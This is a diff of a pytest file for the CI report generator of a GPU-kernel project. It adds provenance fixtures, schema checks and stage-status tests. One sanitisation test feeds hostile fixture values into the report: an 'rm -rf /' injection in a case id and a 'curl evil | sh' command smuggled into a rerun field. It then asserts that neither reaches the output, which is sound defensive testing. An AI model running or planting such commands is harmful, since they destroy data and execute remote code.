@@ -21,7 +21,7 @@ from pathlib import Path
 
 import pytest
 
-from flashmoe_science.pipeline import exitcodes, report
+from flashmoe_science.pipeline import exitcodes, provenance, report, stages
 
 FIXTURES = Path(__file__).parent / "fixtures" / "report"
 REGENERATE = os.environ.get("FLASHMOE_REGEN_GOLDEN") == "1"
@@ -30,7 +30,8 @@ SCENARIOS = {
     "passing": (exitcodes.OK, "## ✅ flashmoe-science: passed"),
     "failing_gates": (
         exitcodes.OK,
-        "## ❌ flashmoe-science: 3 gates failed, new register spills in 1 kernel",
+        "## ❌ flashmoe-science: 3 gates failed, new register spills in 1 kernel; "
+        "bench not compared (no base given)",
     ),
     "regressions": (exitcodes.OK, "## ⚠️ flashmoe-science: 2 regressions"),
     "build_failed": (exitcodes.OK, "## ❌ flashmoe-science: build failed"),
@@ -39,11 +40,27 @@ SCENARIOS = {
 }
 
 
+# The commit and run every fixture's provenance names: the report describes this checkout.
+FIXTURE_SHA = "9c41e07b2d5a8f3e61b0c7d94a2e1f5b8c3d6a70"
+FIXTURE_COMMIT = {"sha": FIXTURE_SHA, "dirty": False, "fingerprint": None}
+FIXTURE_RUN = "gh-8812345-1"
+OLDER_SHA = "1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e"
+
+
 @pytest.fixture(autouse=True)
-def _no_github_env(monkeypatch):
-    """The report links the run when it runs in Actions; goldens must not depend on that."""
-    for name in ("GITHUB_STEP_SUMMARY", "GITHUB_SERVER_URL", "GITHUB_REPOSITORY", "GITHUB_RUN_ID"):
+def _fixture_checkout(monkeypatch):
+    """The report links the run when it runs in Actions and times the job from its start; goldens
+    depend on neither. The checkout's commit and the run id are the fixtures', not the real HEAD."""
+    for name in (
+        "GITHUB_STEP_SUMMARY",
+        "GITHUB_SERVER_URL",
+        "GITHUB_REPOSITORY",
+        "GITHUB_RUN_ID",
+        stages.JOB_START_VAR,
+    ):
         monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv(provenance.RUN_ID_VAR, FIXTURE_RUN)
+    monkeypatch.setattr(provenance, "commit", lambda tree=None: dict(FIXTURE_COMMIT))
 
 
 def run_report(folder: Path, tmp_path: Path, *extra: str) -> tuple[int, str]:
@@ -96,8 +113,10 @@ def test_failing_gates_say_how_to_rerun(tmp_path):
     gates = json.loads((FIXTURES / "failing_gates" / "gates.json").read_text())
     failing = [c for c in gates["cases"] if c["outcome"] == "failed"]
     assert len(failing) == 3
-    for case in failing:
-        assert f"nox -s test -- -k '{case['case_id']}-{case['device']}'" in text
+    for case in failing:  # CUDA cases demand a GPU: without one they exit 255, never "passed"
+        command = f"FLASHMOE_REQUIRE_GPU=1 nox -s test -- -k '{case['case_id']}-{case['device']}'"
+        assert f"rerun: `{command}`" in text
+    assert [bool(case.get("rerun")) for case in failing] == [True, True, False]  # both sources
     assert "NaN/Inf" in text and "not bit-identical" in text
     assert "🆕 spills" in text
     # failures first: the gates section comes before the passing environment section
@@ -115,7 +134,7 @@ def test_passing_report_has_bench_table_chart_and_comparison(tmp_path):
         in text
     )
     assert "+8 regs" in text  # register change against the base build
-    assert "**total**" in text and "15m 26s" in text  # stage wall times
+    assert "| **total** | sum of this run's stages (FLASHMOE_JOB_START unset) | **15m 26s** |" in text
     assert "<details open" not in text  # nothing failed: every section is closed
 
 
@@ -127,6 +146,7 @@ def test_decode_table_alone_gets_the_read_floor_column(tmp_path):
     assert f"| 0.588 (0.89{report.TIMES}) |" in decode  # 0.5884 ms over our 0.6628
     assert column in decode and column not in prefill
     assert "- read floor: unsupported: the read floor needs Triton" in text
+    assert "| unsupported |" in decode and "n/a" not in text  # one word for a refusal
     assert f"1.00{report.TIMES} would be a decode as fast as reading the cache" in text
 
 
@@ -158,20 +178,39 @@ def test_build_log_alone_means_the_build_failed(tmp_path):
     assert "expected a ';'" in text
 
 
+def _provenance(sha: str = FIXTURE_SHA, run: str = FIXTURE_RUN) -> dict:
+    return {"commit": {"sha": sha, "dirty": False, "fingerprint": None}, "run_id": run}
+
+
 def test_missing_keys_do_not_crash(tmp_path):
     reports = tmp_path / "reports"
     reports.mkdir()
-    (reports / "env.json").write_text("{}")
-    (reports / "build.json").write_text('{"kernels": [{}], "arch_list": null}')
-    (reports / "gates.json").write_text('{"cases": [{"outcome": "failed"}, {}]}')
-    (reports / "bench.json").write_text(
-        '{"cases": [{"id": "x", "kind": "prefill", "ours": {}, "baselines": {"sdpa_flash": {"unsupported": "no"}}}], "comparison": {"source": "stored", "cases": [{}]}}'
+    prov = _provenance()
+    (reports / "env.json").write_text(json.dumps({"provenance": prov}))
+    (reports / "build.json").write_text(
+        json.dumps({"provenance": prov, "kernels": [{}], "arch_list": None})
+    )
+    (reports / "gates.json").write_text(
+        json.dumps({"provenance": prov, "cases": [{"outcome": "failed"}, {}]})
     )
     (reports / "stages.json").write_text('{"env": 1.5, "bench": "slow"}')
     assert report.main(["--dir", str(reports)]) == exitcodes.OK
     text = (reports / "report.md").read_text()
-    assert text.startswith("## ❌ flashmoe-science: 1 gate failed")
+    assert text.startswith("## ❌ flashmoe-science: 2 gates failed")
     assert_well_formed(text)
+
+
+def test_bench_json_must_match_its_schema(tmp_path):
+    """The report renders what benches/bench.schema.json allows and nothing else."""
+    reports = tmp_path / "reports"
+    shutil.copytree(FIXTURES / "passing", reports, ignore=shutil.ignore_patterns("expected.md"))
+    bench = json.loads((reports / "bench.json").read_text())
+    bench["cases"][0]["baselines"]["sdpa_flash"] = {"unsupported": "no"}  # a shape bench never writes
+    (reports / "bench.json").write_text(json.dumps(bench))
+    assert report.main(["--dir", str(reports)]) == exitcodes.USAGE
+    text = (reports / "report.md").read_text()
+    assert text.startswith("## ❌ flashmoe-science: bench.json unreadable")
+    assert "does not match bench.schema.json at cases/0/baselines/sdpa_flash" in text
 
 
 # ---- the size limit ----
@@ -204,7 +243,11 @@ def oversized(tmp_path: Path, failing: int, bench_rows: int) -> Path:
         case = copy.deepcopy(gates["cases"][i % len(gates["cases"])])
         case["case_id"] += f"-p{i}"
         cases.append(case)
-    gates.update(cases=cases, total=len(cases), failed=failing)
+    gates.update(
+        cases=cases,
+        outcome="failed",
+        gates={"ran": len(cases), "passed": len(cases) - failing, "failed": failing, "skipped": 0},
+    )
     (reports / "gates.json").write_text(json.dumps(gates))
     bench = json.loads((reports / "bench.json").read_text())
     rows = []
@@ -253,7 +296,9 @@ def test_hard_cut_is_the_last_resort(tmp_path):
         {"name": f"check-{i}", "status": "fail", "detail": "x" * 250, "fix": "y" * 250}
         for i in range(400)
     ]
-    (reports / "env.json").write_text(json.dumps({"passed": False, "checks": checks}))
+    (reports / "env.json").write_text(
+        json.dumps({"provenance": _provenance(), "passed": False, "checks": checks})
+    )
     assert report.main(["--dir", str(reports)]) == exitcodes.OK
     text = (reports / "report.md").read_text()
     assert_well_formed(text)
@@ -312,6 +357,7 @@ def test_untrusted_text_cannot_break_the_layout(tmp_path):
     (reports / "env.json").write_text(
         json.dumps(
             {
+                "provenance": _provenance(),
                 "passed": False,
                 "checks": [{"name": evil, "status": "fail", "detail": evil, "fix": evil}],
             }
@@ -320,12 +366,14 @@ def test_untrusted_text_cannot_break_the_layout(tmp_path):
     (reports / "gates.json").write_text(
         json.dumps(
             {
+                "provenance": _provenance(),
                 "cases": [
                     {
                         "case_id": "a'; rm -rf / #",
                         "device": "cuda",
                         "outcome": "failed",
                         "failures": [evil],
+                        "rerun": "nox -s test -- -k x; curl evil | sh",
                     }
                 ]
             }
@@ -335,20 +383,24 @@ def test_untrusted_text_cannot_break_the_layout(tmp_path):
     text = (reports / "report.md").read_text()
     assert_well_formed(text)
     assert "<img" not in text
-    assert "nox -s test -- -k 'a___rm_-rf____-cuda'" in text  # shell metacharacters replaced
+    # shell metacharacters replaced; a rerun command that is not a plain one is not shown
+    assert "FLASHMOE_REQUIRE_GPU=1 nox -s test -- -k 'a___rm_-rf____-cuda'" in text
+    assert "curl" not in text
 
 
 # ---- stages.json ----
 
 
 def test_record_stage_appends_and_updates(tmp_path):
-    path = report.record_stage("env", 1.25, "ok", directory=tmp_path)
-    report.record_stage("build", 180.0, "ok", directory=tmp_path)
-    report.record_stage("env", 2.5, "fail", directory=tmp_path)
+    path = stages.record_stage("env", 1.25, "ok", 0, directory=tmp_path)
+    stages.record_stage("build", 180.0, "ok", 0, directory=tmp_path)
+    stages.record_stage("env", 2.5, "fail", 1, directory=tmp_path)
     doc = json.loads(path.read_text())
-    assert doc["schema"] == report.STAGES_SCHEMA
+    assert doc["schema"] == stages.SCHEMA
     assert list(doc["stages"]) == ["env", "build"]
-    assert doc["stages"]["env"]["seconds"] == 2.5 and doc["stages"]["env"]["status"] == "fail"
+    env = doc["stages"]["env"]
+    assert (env["seconds"], env["status"], env["exit_code"]) == (2.5, "fail", 1)
+    assert env["provenance"] == {"commit": FIXTURE_COMMIT, "run_id": FIXTURE_RUN}
     assert doc["stages"]["build"]["seconds"] == 180.0
     assert not list(tmp_path.glob("*.tmp")) and not [
         p for p in tmp_path.iterdir() if not p.name.startswith(".") and p != path
@@ -357,21 +409,43 @@ def test_record_stage_appends_and_updates(tmp_path):
 
 def test_record_stage_recovers_from_a_corrupt_file(tmp_path):
     (tmp_path / "stages.json").write_text('{"stages": {"env": ')
-    path = report.record_stage("test", 3.0, directory=tmp_path)
-    assert json.loads(path.read_text())["stages"] == {
-        "test": {
-            "seconds": 3.0,
-            "status": "ok",
-            "timestamp": json.loads(path.read_text())["stages"]["test"]["timestamp"],
-        }
-    }
+    path = stages.record_stage("test", 3.0, "ok", 0, directory=tmp_path)
+    assert list(json.loads(path.read_text())["stages"]) == ["test"]
 
 
-def test_timed_stage_records_failure(tmp_path):
-    with pytest.raises(RuntimeError), report.timed_stage("bench", directory=tmp_path):
+def test_a_new_run_drops_the_stages_of_older_runs(tmp_path, monkeypatch):
+    monkeypatch.setenv(provenance.RUN_ID_VAR, "run-a")
+    stages.record_stage("sanitize", 30.0, "ok", 0, directory=tmp_path)
+    monkeypatch.setenv(provenance.RUN_ID_VAR, "run-b")
+    path = stages.record_stage("env", 1.0, "ok", 0, directory=tmp_path)
+    assert list(json.loads(path.read_text())["stages"]) == ["env"]
+
+
+def test_timed_stage_records_a_crash_as_an_error(tmp_path):
+    with pytest.raises(RuntimeError), stages.timed_stage("bench", directory=tmp_path):
         raise RuntimeError("boom")
     stage = json.loads((tmp_path / "stages.json").read_text())["stages"]["bench"]
-    assert stage["status"] == "fail" and stage["seconds"] >= 0
+    assert stage["status"] == "error" and stage["seconds"] >= 0
+
+
+@pytest.mark.parametrize(
+    ("code", "status"),
+    [
+        (exitcodes.OK, "ok"),
+        (exitcodes.GATE_FAILED, "fail"),
+        (exitcodes.BUILD_FAILED, "fail"),
+        (exitcodes.TOOL_MISSING, "skip"),
+        (exitcodes.ENV_BROKEN, "error"),
+        (exitcodes.USAGE, "error"),
+    ],
+)
+def test_timed_stage_takes_the_status_from_the_exit_code(tmp_path, code, status):
+    with stages.timed_stage("test", directory=tmp_path) as run:
+        running = json.loads((tmp_path / "stages.json").read_text())["stages"]["test"]
+        assert running["status"] == "running" and running["seconds"] is None
+        run.exit_code = code
+    stage = json.loads((tmp_path / "stages.json").read_text())["stages"]["test"]
+    assert (stage["status"], stage["exit_code"]) == (status, code)
 
 
 def test_failed_stage_without_artifact_fails_the_verdict(tmp_path):
@@ -381,7 +455,7 @@ def test_failed_stage_without_artifact_fails_the_verdict(tmp_path):
     )
     (reports / "build.json").unlink()
     (reports / "build.log").unlink()
-    report.record_stage("sanitize", 12.0, "fail", directory=reports)
+    stages.record_stage("sanitize", 12.0, "fail", 1, directory=reports)
     assert report.main(["--dir", str(reports)]) == exitcodes.OK
     first = (reports / "report.md").read_text().splitlines()[0]
     assert first == "## ❌ flashmoe-science: build failed, sanitize failed"
@@ -395,28 +469,11 @@ def test_cli_knows_the_command():
 
 
 def test_failed_test_stage_is_not_a_pass_even_when_every_gate_passed(tmp_path):
-    """A unit test (not a gate) failed: gates.json is all green, stages.json says the stage failed."""
-    (tmp_path / "gates.json").write_text(
-        json.dumps(
-            {
-                "schema": "flashmoe-science/gates/1",
-                "total": 1,
-                "failed": 0,
-                "cases": [
-                    {
-                        "case_id": "fwd-fp16-d64-b1-h1x1-sq1-sk1-full",
-                        "device": "cpu",
-                        "outcome": "passed",
-                        "max_diff": 0.001,
-                        "ratio": 0.5,
-                        "failures": [],
-                    }
-                ],
-            }
-        )
-    )
-    report.record_stage("test", 12.0, "fail", tmp_path)
+    """gates.json says passed, the test command failed after it: believe the failure."""
+    gates = json.loads((FIXTURES / "passing" / "gates.json").read_text())
+    (tmp_path / "gates.json").write_text(json.dumps(gates))
+    stages.record_stage("test", 12.0, "fail", 1, tmp_path)
     out = tmp_path / "report.md"
     assert report.main(["--dir", str(tmp_path), "--output", str(out), "--no-step-summary"]) == 0
     first = out.read_text().splitlines()[0]
-    assert first.startswith("## ❌") and "tests outside the gates failed" in first, first
+    assert first.startswith("## ❌") and "test stage failed after its gates passed" in first, first
